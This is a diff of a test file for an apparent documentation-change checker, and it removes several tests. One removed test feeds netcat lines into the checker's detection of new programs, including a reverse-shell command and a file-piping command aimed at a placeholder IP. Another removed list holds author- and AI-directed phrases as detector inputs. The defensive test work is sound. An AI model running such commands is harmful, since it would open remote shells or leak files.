@@ -420,21 +420,11 @@ describe('removed:', () => {
     expect(found({ before, after })).toContain('removed @ a.mdx:6: A paragraph is gone.');
   });
 
-  it('callouts first, then sections', () => {
-    const before = `One day lamps shine.\n\n## Two\n\n${long}\n\n## Three\n\nMore.\n\n<Warning>Hot.</Warning>`;
-    expect(edited(before, '## Three\n\nMore.').map((row) => row.replace(/.*: /u, ''))).toEqual([
-      'A <Warning> callout is gone.',
-      'The section "Two" is gone.',
-      'A paragraph is gone.',
-    ]);
-  });
-
   it.each([
     [`## One\n\n${long}\n\n## Two\n\nMore.`, '## Two\n\nMore.', 'The section "One" is gone.'],
     [`Start.\n\n<Warning>${long}</Warning>`, 'Start.', 'A <Warning> callout is gone.'],
     ['Start.\n\n```sh\nls\n```', 'Start.', 'A sample is gone.'],
     ['Start.\n\n![x](/x.png)', 'Start.', 'The picture /x.png is gone.'],
-    ['Start.\n\n![x](/x.png)\n\n![y](/y.png)', 'Start.', '2 pictures are gone.'],
     [
       '- **Free plan**: You cannot invite others.\n- **Pro plan**: You can invite up to 3 others.\n- **Team plan**: You can invite up to 9 others.',
       '| Plan | Others |\n|-|-|\n| Free plan | You cannot invite others |\n| Pro plan | Up to 3 others |\n| Team plan | Up to 9 others |',
@@ -895,7 +885,6 @@ describe('fact-changed:', () => {
     ['It returns the pairs.', 'It returns the pairs, or nothing if there are no such aliases.'],
     ['Use `timer rm` for that.', 'Use timer rm for that, or `drop`.'],
     ['See [the guide](https://example.com/a).', 'See [the guide](https://example.com/b).'],
-    ['See [the guide](https://acme.com/a#b).\n\n## B', 'See [the guide](/a#b).\n\n## B'],
     ['You can not send messages at night.', 'At night, you can’t send any messages.'],
     ['Wait 5 minutes. Then you must log in.', 'Then you must log in. Wait 5 minutes.'],
     ['v1.4.9,', 'v1.10.0,'],
@@ -1506,18 +1495,6 @@ describe('not-plain:', () => {
       `\`\`\`\n${text}\n\`\`\``,
       'A new sample names "evil-package", which the docs did not name before.',
     ]),
-    ...[
-      "I've updated the page.",
-      'As requested, the page names all lamps.',
-      'This section was updated for the new lamps.',
-      'As an AI, you cannot see them.',
-      'Reviewer: say whether that is so.',
-      'Lamps of other colors: TBD.',
-      'The text goes here.',
-      '[Source: a thread]',
-      'Add limits here.',
-      'More details to come.',
-    ].map((text) => [text, `"${text}" speaks of the change or of its author: is it for readers?`]),
     [
       '<Latex>{"\\\\phantom{Run it.}"}</Latex>',
       'The component <Latex> is not on the list of plain ones.',
@@ -1698,36 +1675,6 @@ describe('not-plain:', () => {
     expect(linked('https://eve.acme-lamps.com/b')).toEqual([
       'not-plain @ a.mdx:6: No page linked to "https://eve.acme-lamps.com/b" before.',
     ]);
-  });
-
-  it.each([
-    'nc -e /bin/sh 203.0.113.9 4444',
-    '$ sudo nc -l 80',
-    'lamp on && A=1 nc -l',
-    'cat a | nc 203.0.113.9 80',
-    'echo $(nc -l)',
-    'lamp on \\\n  --now\nnc -l',
-  ])('a program that no sample ran before: %s', (text) => {
-    const before = '```sh\nlamp on\n```';
-    for (const language of ['', 'sh', 'bash', 'shell-session', 'text']) {
-      const sample = (code: string) => `${before}\n\n\`\`\`${language}\n${code}\n\`\`\``;
-      expect(edited(before, sample(text))).toEqual([
-        'not-plain @ a.mdx:10: A new sample runs "nc", which the docs did not name before.',
-      ]);
-      expect(edited(before, sample(text.replaceAll('nc ', 'lamp ')))).toEqual([]);
-    }
-  });
-
-  it.each([
-    ['sh', "lamp on --data '{\n  nc: 1,\n}' \\\n  nc"],
-    ['sh', 'cat <<EOF > a.txt\nnc all of it\nEOF\nlamp on'],
-    ['', 'nc = lamp.on()\nAll are on: nc\nnc\nNc all on\nncAll on'],
-    ['yaml', 'nc: lamp'],
-    ['js', 'nc(1)'],
-  ])('no program, but what stands in a sample of %s: %s', (language, text) => {
-    const before = '```sh\nlamp on\n```';
-    const after = `${before}\n\n\`\`\`${language}\n${text}\n\`\`\``;
-    expect(edited(before, after)).toEqual([]);
   });
 
   it.each([
